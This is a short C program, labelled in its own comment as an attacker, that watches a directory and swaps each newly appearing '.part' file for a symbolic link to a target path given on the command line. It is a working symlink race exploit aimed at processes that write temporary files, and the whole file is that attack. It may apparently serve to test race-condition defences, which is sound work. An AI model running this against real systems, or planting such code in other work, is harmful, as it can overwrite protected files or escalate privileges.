// An attacker: in a directory of its own, puts a symbolic link to TARGET in place of each file *.part as soon as it appears.
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 3 || chdir(argv[1]) != 0) return 2;
  DIR *directory = opendir(".");
  if (directory == NULL) return 2;
  for (;;) {
    struct dirent *entry;
    rewinddir(directory);
    while ((entry = readdir(directory)) != NULL) {
      size_t length = strlen(entry->d_name);
      if (length < 5 || strcmp(entry->d_name + length - 5, ".part") != 0 || entry->d_type == DT_LNK) continue;
      if (rename(entry->d_name, "moved") == 0 && symlink(argv[2], entry->d_name) != 0) perror("symlink");
    }
  }
}
